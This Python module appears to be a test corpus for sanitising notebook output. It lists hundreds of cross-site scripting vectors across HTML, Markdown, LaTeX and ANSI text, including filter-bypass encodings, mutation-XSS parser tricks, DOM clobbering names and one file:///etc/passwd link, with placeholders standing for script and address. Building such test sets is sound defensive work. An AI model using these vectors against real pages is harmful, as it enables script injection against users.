# ruff: noqa: E501, RUF001
"""What a notebook may hold to have a page run it, one on a line: known ways into a page, kind by kind.

``RUN`` stands for the call that the browser listens for, ``URL`` for an address of a network; ␀ ␁ ␉ ␊ ␌ ␍ ␛ stand for
the control characters that they picture. A way that needs no click comes first in its kind.
"""

from __future__ import annotations

_CONTROLS = {chr(0x2400 + code): chr(code) for code in (0, 1, 9, 10, 12, 13, 27)}

_HTML = r'''
<script>RUN</script>
<ScRiPt src=URL></sCrIpT>
<script/src=data:,RUN></script>
<script type=module>RUN</script>
<script>RUN
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
</style><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</main></body></html><script>RUN</script>
]]><script>RUN</script>
%3Cscript%3ERUN%3C/script%3E<script␊>RUN</script␉>
<script>␀RUN</script><scr␀ipt>RUN</scr␀ipt>
<img src=x onerror=RUN>
<img src=x onerror="RUN"
<img/src=x/onerror=RUN>
<img src=x␌onerror=RUN>
<img src=`x` onerror=`x`;RUN>
<img """><script>RUN</script>">
<img src="x" alt="``onerror=RUN">
<img src='x' alt='" onerror="RUN'>
<img src=x oNeRrOr=RUN>
<img src=x ␀onerror=RUN on␀error=RUN>
<img srcset="x 1x" onerror=RUN><image src=x onerror=RUN>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img src=data:, style="x:y" lowsrc=URL dynsrc=URL longdesc=URL srcset="URL 2x">
<img src=URL><img src=//ran.test/a><img src="\\ran.test\a"><img src="ht␉tps://ran.test/a">
<picture><source srcset=URL><img src=x onerror=RUN></picture>
<body onload=RUN><body onpageshow=RUN onhashchange=RUN background=URL>
<html onmouseover=RUN onclick=RUN>
<frameset onload=RUN><frame src=javascript:RUN></frameset>
<input autofocus onfocus=RUN><select autofocus onfocus=RUN><textarea autofocus onfocus=RUN>
<input type=image src=x onerror=RUN formaction=javascript:RUN>
<input onblur=RUN autofocus><input autofocus oninput=RUN onbeforeinput=RUN onselect=RUN value=a>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN>x</details>
<details ontoggle=RUN><summary onclick=RUN>x</summary></details>
<video src=x onerror=RUN></video><video><source onerror=RUN src=x></video>
<video autoplay src=URL poster=URL onloadstart=RUN></video>
<video onwaiting=RUN oncanplay=RUN><track src=URL onerror=RUN default></video>
<audio src onloadstart=RUN><audio src=x onerror=RUN></audio>
<marquee onstart=RUN onbounce=RUN onfinish=RUN width=1>x</marquee>
<object data=javascript:RUN></object>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<object type=text/html data=URL><param name=movie value=URL></object>
<embed src=javascript:RUN><embed src="data:text/html,<script>RUN</script>"><embed src=URL>
<applet code=x archive=URL codebase=javascript:RUN></applet>
<iframe src=javascript:RUN></iframe>
<iframe srcdoc="<script>parent.RUN;RUN</script>"></iframe>
<iframe srcdoc='&lt;img src=x onerror=parent.RUN&gt;' onload=RUN></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe><iframe src=URL></iframe>
<iframe><img src=x onerror=RUN></iframe>
<portal src=javascript:RUN onload=RUN></portal><fencedframe src=URL></fencedframe>
<base href=javascript:/a/-RUN///////><base href=URL/>
<meta http-equiv=refresh content='0;url=javascript:RUN'>
<meta http-equiv=refresh content='0;url=URL'><meta http-equiv="ref␉resh" content="0;URL">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=a=RUN>
<link rel=stylesheet href=URL onload=RUN onerror=RUN><link rel=import href=URL>
<link rel=prefetch href=URL><link rel=preload as=script href=URL><link rel=dns-prefetch href=//ran.test>
<link rel=modulepreload href=URL><link rel=manifest href=URL><link rel=icon href=URL>
<link rel=stylesheet href="data:text/css,*{background:url(URL)}">
<style>@import url(URL);</style><style>@import 'URL';</style>
<style>@im\port 'URL';</style><style>@\69mport url(URL)</style>
<style>*{background:url(URL)}</style><style>*{background:\75 rl('URL')}</style>
<style>*{background:image-set('URL' 1x)}</style><p style="background:image-set('URL' 1x)">x</p>
<p style="background:-webkit-image-set('URL' 1x)">x</p><p style="background:u\72l(URL)">x</p>
<style>*{background:url(/**/URL)}@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>
<style>@import/**/'URL';@namespace url(URL);@import "URL" layer(a) screen;</style>
<style><!--</style><img src=x onerror=RUN>--></style>
<style onload=RUN onerror=RUN>x{}</style>
<style></style ><img src=x onerror=RUN></style>
<style>p{x:y</style/><img src=x onerror=RUN>
<style>*{behavior:url(URL);-moz-binding:url(URL);x:expression(RUN)}</style>
<p style="x:expression(RUN);behavior:url(javascript:RUN);background:url(javascript:RUN)">x</p>
<p style='list-style:url("javascript:RUN")'><p style="width:e/**/xpression(RUN)">x</p>
<p style="cursor:url(URL),auto;border-image:url(URL);mask:url(URL#m);filter:url(URL#f);content:url(URL)">x</p>
<p style="background:url('URL'/*)*/)">x</p><p style="--a:url(URL);background:var(--a)">x</p>
<p style="background:url(&quot;URL&quot;)">x</p><p style="background:URL(URL)">x</p>
<p style="animation:a 1ms" onanimationstart=RUN onanimationend=RUN>x</p><style>@keyframes a{to{left:0}}</style>
<p style="transition:all 1ms" ontransitionrun=RUN ontransitionend=RUN tabindex=0>x</p>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><style></noscript><img src=x onerror=RUN></style>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<xmp><img src=x onerror=RUN></xmp><listing>&lt;img src=x onerror=RUN&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<title><p title="</title><img src=x onerror=RUN>"></title>
<template><img src=x onerror=RUN></template><template shadowrootmode=open><img src=x onerror=RUN></template>
<div><template shadowrootmode=open><script>RUN</script><slot></slot></template></div>
<slot onslotchange=RUN><x-a onclick=RUN tabindex=0 onfocus=RUN>x</x-a><custom-element is=x onclick=RUN>x</custom-element>
<select><option><style></option></select><img src=x onerror=RUN></style>
<select><selectedcontent><script>RUN</script></select><select><iframe></select><img src=x onerror=RUN>
<isindex action=javascript:RUN type=image><isindex formaction=javascript:RUN>
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN>">
<!-- a -- b > <img src=x onerror=RUN> -->
<!doctype x [<!entity y "<img src=x onerror=RUN>">]>&y;
<![CDATA[><img src=x onerror=RUN>]]>
<?xml version="1.0"?><?php ><img src=x onerror=RUN> ?>
<?xml-stylesheet href="javascript:RUN"?><?x <img src=x onerror=RUN>?>
</ <img src=x onerror=RUN>></><img/src=x onerror=RUN>
</p title="><img src=x onerror=RUN>">
<%<img src=x onerror=RUN>%><!x<img src=x onerror=RUN>>
<a<img src=x onerror=RUN>>x</a><a"'><img src=x onerror=RUN>
<div a="1"b='2'onclick=RUN>x</div><div/onclick=RUN/>x</div>
<p title="x" title='"><img src=x onerror=RUN>'>x</p><p title=x"><img/src=x onerror=RUN>>x</p>
<p "onclick=RUN" onclick=RUN>x</p><p ="onclick=RUN x"onclick=RUN>x</p>
<p title='&quot;&gt;&lt;img src=x onerror=RUN&gt;'>x</p><p title="&#34;&#62;&#60;img src=x onerror=RUN&#62;">x</p>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><math><img src onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>"></mglyph></mtext></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x>"></style></mtext></svg></mglyph></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<math><style><img src=x onerror=RUN></style></math>
<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload=RUN></svg></annotation-xml></math>
<math><semantics><annotation encoding=text/html></annotation><img src=x onerror=RUN></semantics></math>
<math><maction actiontype=statusline#URL xlink:href=javascript:RUN>click</maction></math>
<math href=javascript:RUN><mrow xlink:href=javascript:RUN><mi href=javascript:RUN onclick=RUN>click</mi></mrow></math>
<math><mtext><img src=x onerror=RUN></mtext><ms><svg onload=RUN></ms><mo><script>RUN</script></mo></math>
<math><x-a onclick=RUN>x</x-a><mglyph src=URL alt=x></mglyph></math><math style="background:url(URL)"></math>
<math><!--</math><img src=x onerror=RUN>--></math><math><![CDATA[</math><img src=x onerror=RUN>]]></math>
<svg onload=RUN></svg>
<svg/onload=RUN><svg onload=RUN//
<svg><script>RUN</script></svg><svg><script href=data:,RUN /><script xlink:href=URL></script></svg>
<svg><script>&#82;UN;RUN</script></svg><svg><script><![CDATA[RUN]]></script></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>&lt;img src=x onerror=RUN&gt;</style></svg><svg><style><a title="</style><img src=x onerror=RUN>"></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>"></svg>
<svg><p><style><!--</style><img src=x onerror=RUN>--></style></p></svg>
<svg><title><style><img src=x onerror=RUN></style></title></svg><svg><desc><img src=x onerror=RUN></desc></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignobject><iframe srcdoc="<script>parent.RUN</script>"></iframe><body onload=RUN></foreignobject></svg>
<svg><foreignObject><style><img src=x onerror=RUN></style></foreignObject></svg>
<svg><![CDATA[<img src=x onerror=RUN>]]></svg><svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg><svg><set onbegin=RUN attributeName=x to=1></svg>
<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></animateTransform></svg>
<svg><animateMotion onbegin=RUN dur=1s path="M0,0"/></svg><svg><discard onbegin=RUN /></svg>
<svg><rect width=9 height=9><animate attributeName=x dur=1ms onend=RUN onrepeat=RUN repeatCount=2 /></rect></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text x=20 y=20>click</text></a></svg>
<svg><a id=w><text x=9 y=9>click</text></a><animate href=#w attributeName=href from=javascript:RUN to=1 /></svg>
<svg><a><set attributeName=href to=javascript:RUN /><text x=20 y=20>click</text></a></svg>
<svg><a><set attributeName="xlink:href" to=javascript:RUN /><text x=20 y=20>click</text></a></svg>
<svg><set attributeName=onclick to=RUN /><rect width=9 height=9 /></svg>
<svg><a xlink:href=javascript:RUN><text x=20 y=20>click</text></a></svg>
<svg><a xlink:href="java&#10;script:RUN" href="&#x6a;avascript:RUN"><rect width=99 height=99 /></a></svg>
<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:RUN><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x"/></svg>
<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x" /><use href=URL#x /></svg>
<svg><image href=x onerror=RUN /><image xlink:href=URL /><image href="javascript:RUN" /></svg>
<svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>"/></svg>
<svg><feImage href=URL /><feImage xlink:href=javascript:RUN /><pattern href=URL /><mpath href=URL /></svg>
<svg><style>@import 'URL';*{fill:url(URL#a)}</style><rect fill="url(URL#a)" filter=url(URL#b) width=9 height=9 /></svg>
<svg><rect mask="url(URL#m)" clip-path="url(URL#c)" marker-start="url(URL#d)" stroke="u\72l(URL)" width=9 height=9 /></svg>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>RUN</handler><listener event=load handler=#a /></svg>
<svg><text onclick=RUN y=20>click</text><g onfocusin=RUN tabindex=0><rect width=9 height=9 /></g></svg>
<svg><desc></svg><style><a title="</style><img src=x onerror=RUN>"></style>
<svg><template><img src=x onerror=RUN></template><textarea></svg><img src=x onerror=RUN></textarea>
<svg xmlns="http://www.w3.org/2000/svg"><html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script></svg>
<svg><br><img src=x onerror=RUN></svg><svg><font color=x><img src=x onerror=RUN></svg>
<table background=URL><td background=javascript:RUN onclick=RUN>x</table>
<table><caption onclick=RUN><script>RUN</script></caption><tr><td><img src=x onerror=RUN></td></tr></table>
<table><style><img src=x onerror=RUN></style><tr onmouseover=RUN><th title='"><script>RUN</script>'>x</table>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<a href=javascript:RUN>click</a>
<a href=' jAvAsCrIpT:RUN'>click</a>
<a href='java&#9;script:RUN'>click</a><a href='java&#10;script:RUN'>click</a><a href='java&#13;script:RUN'>click</a>
<a href='java␉script:RUN'>click</a><a href='java␊scr␍ipt:RUN'>click</a><a href='javascript␉:RUN'>click</a>
<a href='&#1;javascript:RUN'>click</a><a href='␁javascript:RUN'>click</a><a href='&#x1f;javascript:RUN'>click</a>
<a href='&#0;javascript:RUN'>click</a><a href='␀javascript:RUN'>click</a><a href='java␀script:RUN'>click</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">click</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">click</a>
<a href="javascript&colon;RUN">click</a><a href="java&Tab;script&colon;RUN">click</a><a href="java&NewLine;script:RUN">click</a>
<a href="&#0000106avascript:RUN">click</a><a href="&amp;#106;avascript:RUN">click</a><a href="%6Aavascript:RUN">click</a>
<a href="javascript://ran.test/%0ARUN">click</a><a href="javascript://%E2%80%A8RUN">click</a>
<a href="javaſcript:RUN">click</a><a href="ｊavascript:RUN">click</a><a href="&nbsp;javascript:RUN">click</a>
<a href="&ZeroWidthSpace;javascript:RUN">click</a><a href="&#xFEFF;javascript:RUN">click</a><a href="&#x2028;javascript:RUN">click</a>
<a href="vbscript:RUN">click</a><a href="livescript:RUN">click</a><a href="mocha:RUN">click</a><a href="jscript:RUN">click</a>
<a href="data:text/html,<script>RUN</script>">click</a><a href="data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=">click</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>" target=_blank>click</a>
<a href="data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>" target=_top>click</a>
<a href="blob:https://ran.test/1">click</a><a href="filesystem:https://ran.test/temporary/1">click</a>
<a href="view-source:javascript:RUN">click</a><a href="feed:javascript:RUN">click</a><a href="about:blank#RUN" target=_blank>click</a>
<a href=javascript:RUN target=_blank>click</a><a href=javascript:RUN target=w rel=opener>click</a><a href="javascript:RUN" download>click</a>
<a href=# ping=URL onclick=RUN onauxclick=RUN oncontextmenu=RUN>click</a>
<a href=javascript:RUN accesskey=x tabindex=1 onkeydown=RUN onkeyup=RUN onkeypress=RUN>click</a>
<a title="`onmouseover=RUN" href=#>click</a><a href="`javascript:RUN`">click</a><a href=`javascript:RUN`>click</a>
<a href=''onmouseover=RUN>click</a><a onclick="RUN" href='#'>click</a><a xlink:href=javascript:RUN xml:base=javascript:RUN>click</a>
<map name=m><area shape=default href=javascript:RUN onclick=RUN></map><img usemap=#m src=data:, alt=x width=9 height=9>
<form action=javascript:RUN><button>click</button><input type=submit></form>
<form action=URL><input name=a value=b><button>click</button></form><form action="ht␉tps://ran.test"><input type=submit></form>
<form id=f></form><button form=f formaction=javascript:RUN>click</button><input form=f type=submit formaction=URL>
<form onsubmit=RUN onreset=RUN onformdata=RUN><button type=reset>click</button><button type=submit>click</button></form>
<form action="java&#9;script:RUN"><input type=image src=data:, formaction="java&#10;script:RUN"></form>
<form><input required oninvalid=RUN><button>click</button></form><form method=post enctype=text/plain action=URL><button>click</button></form>
<button popovertarget=p>click</button><p popover id=p onbeforetoggle=RUN ontoggle=RUN>x</p>
<button commandfor=q command=show-modal>click</button><dialog id=q oncommand=RUN ontoggle=RUN>x</dialog>
<p hidden=until-found onbeforematch=RUN>x</p><p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>
<p contenteditable oncopy=RUN oncut=RUN onpaste=RUN onfocus=RUN onbeforecopy=RUN tabindex=0>x</p>
<p draggable=true ondragstart=RUN ondrag=RUN ondrop=RUN>x</p><p onpointerover=RUN onpointerenter=RUN onpointerrawupdate=RUN>x</p>
<p onmouseover=RUN onmouseenter=RUN onmousemove=RUN onmousedown=RUN onmouseup=RUN onwheel=RUN onclick=RUN ondblclick=RUN>x</p>
<p ontouchstart=RUN onscroll=RUN onscrollend=RUN onresize=RUN onfocusin=RUN onfocusout=RUN onsecuritypolicyviolation=RUN>x</p>
<p tabindex=1 style=display:block onfocus=RUN onactivate=RUN onfocusin=RUN id=x>x</p><p on=RUN onx=RUN ONCLICK=RUN>x</p>
<p data-src=URL data-background=URL><img data-src=URL data-lazy-src=URL><video data-src=URL data-autoplay></video></p>
<section data-background-iframe=javascript:RUN data-background-image=URL data-state=x><section data-markdown=URL>x</section></section>
<section><section data-background-iframe="data:text/html,<script>parent.RUN</script>" data-background-video=URL>x</section></section>
<aside class=notes data-markdown>&lt;img src=x onerror=RUN&gt;<a href=javascript:RUN>click</a></aside>
<p data-notes="<img src=x onerror=RUN>" class=fragment>x</p><iframe data-src=javascript:RUN></iframe>
<a href=# data-preview-link="javascript:RUN">click</a><a data-preview-link href='"><img src=x onerror=RUN>'>click</a>
<p data-preview-link='"><img src=x onerror=RUN>'>click</p><p data-preview-link="javascript:RUN">click</p>
<p data-preview-image=URL>click</p><img data-preview-image='x" onerror="RUN' src=data:, alt=x><p data-preview-video=URL>click</p>
<div class="reveal"><div class="slides"><section data-background-iframe=javascript:RUN></section></div></div>
<pre class=mermaid>graph TD; a["<img src=x onerror=RUN>"]; click a "javascript:RUN"</pre><div class=input onclick=RUN><pre>x</pre></div>
<span class=MathJax_Preview>\(\href{javascript:RUN}{x}\)</span><script type=math/tex>\href{javascript:RUN}{x}</script>
<p title="> $\text{a}$ onclick=RUN ">x</p><img src=data:, alt="> $x$ onload=RUN "><p title='> \(" onclick="RUN" \)'>x</p>
<img name=querySelectorAll src=data:, alt=x><img name=createElement src=data:, alt=x><form name=body><input name=classList></form>
<form name=querySelector></form><img name=documentElement src=data:, alt=x><img name=addEventListener src=data:, alt=x><img name=cookie src=data:, alt=x>
<p id=exports>x</p><p id=module>x</p><p id=define>x</p><a id=Reveal>x</a><a id=RevealNotes href="javascript:RUN">x</a><a id=marked>x</a>
<form id=content><input name=focus><input name=appendChild><input name=innerHTML></form><object id=navigator name=navigator></object>
<a id=__proto__ name=constructor href=data:,RUN>x</a><a id=self name=self href=URL>x</a><img name=getElementById id=globalThis src=data:, alt=x>
'''

_MARKDOWN = r"""
[click](javascript:RUN)
[click](JaVaScRiPt:RUN)
[click](<javascript:RUN>)
[click](<java␉script:RUN>) [click](<java&#9;script:RUN>) [click](java&Tab;script:RUN) [click](javascript&colon;RUN)
[click](&#106;avascript:RUN) [click](&#x6a;avascript:RUN) [click](\javascript:RUN) [click](java\script:RUN)
[click](%6aavascript:RUN) [click](javascript%3ARUN) [click](<␁javascript:RUN>) [click](<&#1;javascript:RUN>)
[click](vbscript:RUN) [click](data:text/html,<script>RUN</script>) [click](<data:text/html,<script>RUN</script>>)
[click](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) [click](blob:x) [click](file:///etc/passwd) [click](view-source:x)
[click](# "x" onmouseover="RUN") [click](# 'x" onmouseover="RUN') [click](# (x" onmouseover="RUN))
[click](#"onmouseover="RUN) [click](#'onmouseover='RUN) [click](<#" onmouseover="RUN>) [click](#`onmouseover=RUN`)
[click][a] [a][] [a]␊␊[a]: javascript:RUN "x"
[click][b]␊␊[b]: <javascript:RUN> '" onmouseover="RUN'
[click][c]␊␊[c]: data:text/html,<script>RUN</script>
[click][<img src=x onerror=RUN>]␊␊[<img src=x onerror=RUN>]: javascript:RUN
<javascript:RUN> <JAVASCRIPT:RUN> <vbscript:RUN> <data:text/html,RUN>
<https://ran.test/"onmouseover="RUN> <a@b.c"onmouseover=RUN> <mailto:"onclick=RUN>
javascript:RUN www.ran.test"onmouseover="RUN https://ran.test/"onmouseover="RUN
![x](x "y" onerror="RUN") ![x](x 'y" onerror="RUN') ![x](x"onerror="RUN) ![x](<x" onerror="RUN>)
![" onerror="RUN](x) !['onerror='RUN](data:,) ![<img src=x onerror=RUN>](data:,) ![x](javascript:RUN)
![$x" onerror="RUN$](data:,) ![`" onerror="RUN`](data:,) ![x](attachment:"onerror="RUN) ![x][d]␊␊[d]: x "y' onerror=RUN"
![x](URL) ![x](//ran.test/a) ![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) ![x](data:text/html,<script>RUN</script>)
[![x](x "onerror=RUN")](javascript:RUN) [<img src=x onerror=RUN>](#) [x<script>RUN</script>](#)
# x" onclick="RUN
## x<img src=x onerror=RUN>
### [click](javascript:RUN) <script>RUN</script>
#### "><img src=x onerror=RUN>
# `</title><script>RUN</script>` </title><script>RUN</script>
x " onclick="RUN␊====␊␊x"><script>RUN</script>␊----
# exports␊## module␊## define␊## Reveal␊## querySelectorAll␊## __proto__
```"><img src=x onerror=RUN>␊x␊```
```python" onclick="RUN␊x␊```
```html␊<script>RUN</script>␊```
``` <script>RUN</script>␊x␊```
~~~x onclick=RUN␊</code></pre><img src=x onerror=RUN>␊~~~
```mermaid␊graph TD; a["<img src=x onerror=RUN>"]; click a "javascript:RUN"; </pre><script>RUN</script>␊```
```markdown␊[x](javascript:RUN)␊```
`<img src=x onerror=RUN>` `` ` <script>RUN</script> ``
    <script>RUN</script>␊    </pre><img src=x onerror=RUN>
| a<img src=x onerror=RUN> | b␊|:--" onclick="RUN|--|␊| <script>RUN</script> | [click](javascript:RUN) |
|a|b|␊|:-:|--:|␊|`</td><img src=x onerror=RUN>`|x" onclick="RUN|
> <img src=x onerror=RUN>␊> [click](javascript:RUN)
- [ ] <img src=x onerror=RUN>␊1. <script>RUN</script>
a[^1]␊␊[^1]: <img src=x onerror=RUN> [click](javascript:RUN)
a[^"><img src=x onerror=RUN>]␊␊[^"><img src=x onerror=RUN>]: x
~~<img src=x onerror=RUN>~~ **<script>RUN</script>** ==<b onclick=RUN>==
*[x]: <img src=x onerror=RUN>␊␊x
Term <img src=x onerror=RUN>␊: <script>RUN</script>
<details>␊<summary onclick=RUN>x</summary>␊␊[click](javascript:RUN)␊␊</details>
<div␊onclick=RUN␊>x␊␊</div>
<a href="java␊script:RUN">click</a> <img src=x␊onerror=RUN>
<div title="␊␊"><img src=x onerror=RUN>␊␊">
<!--␊␊--><img src=x onerror=RUN>
<?x␊␊?><script>RUN</script>
<pre>␊␊</pre><img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62; \<img src=x onerror=RUN\>
$\href{javascript:RUN}{click}$ $\url{javascript:RUN}$ $\unicode{x3c}$ $\class{x" onclick="RUN}{y}$
$\style{x" onclick="RUN}{y}$ $\cssId{x" onclick="RUN}{y}$ $\html{<img src=x onerror=RUN>}$ $\htmlData{x=RUN}{y}$
$\text{<img src=x onerror=RUN>}$ $<img src=x onerror=RUN>$ $\text{</annotation></math><script>RUN</script>}$
$$\label{x" onclick="RUN} x$$ $$\begin{equation}\label{a><img src=x onerror=RUN>}x\tag{<b onclick=RUN>}\end{equation}$$
$\color{red" onclick="RUN}{x}$ $\textcolor{<img src=x onerror=RUN>}{x}$ $\colorbox{x" onclick="RUN}{y}$
$\require{x"><script>RUN</script>}$ $\includegraphics{URL}$ $\operatorname{<script>RUN</script>}$
$$\begin{array}{c|" onclick="RUN} x \end{array}$$ $\hspace{1em" onclick="RUN}$ $\rule{1em" onclick="RUN}{1em}$
$\undefined{<img src=x onerror=RUN>}$ $$\undefined{" onclick="RUN}$$ $\undefined" title="x" onclick="RUN$
\begin{align}<img src=x onerror=RUN>\undefined\end{align} \begin{equation}\href{javascript:RUN}{x}\end{equation}
[$x$](javascript:RUN) [a $\text{"onclick=RUN}$](# "$\text{x}$ onclick=RUN") <b title="$x$ onclick=RUN ">x</b>
<p title="a > $\undefined{x}$ onclick=RUN ">x</p>␊␊<div title='a > $\frac{1}{2}$ onclick=RUN '>x</div>
"""

_TEXT = r"""
␛]8;;javascript:RUN␛\click␛]8;;␛\
␛]8;;javascript:RUN␁click␛]8;;␁ ␛]0;<script>RUN</script>␁
␛[31m<img src=x onerror=RUN>␛[0m
␛[38;2;1;2;3"onclick="RUNm x ␛[0m
␛[38;5;<script>RUN</script>m x ␛[1;31;"><img src=x onerror=RUN>m
␛[31m" onclick="RUN␛[0m</pre><script>RUN</script>
Traceback (most recent call last):␊  File "<img src=x onerror=RUN>", line 1, in <script>RUN</script>␊ValueError: </pre><svg onload=RUN>
"""


def _lines(text: str) -> list[str]:
    return [line.translate(str.maketrans(_CONTROLS)) for line in text.strip("\n").split("\n")]


HTML, MARKDOWN, TEXT = _lines(_HTML), _lines(_MARKDOWN), _lines(_TEXT)
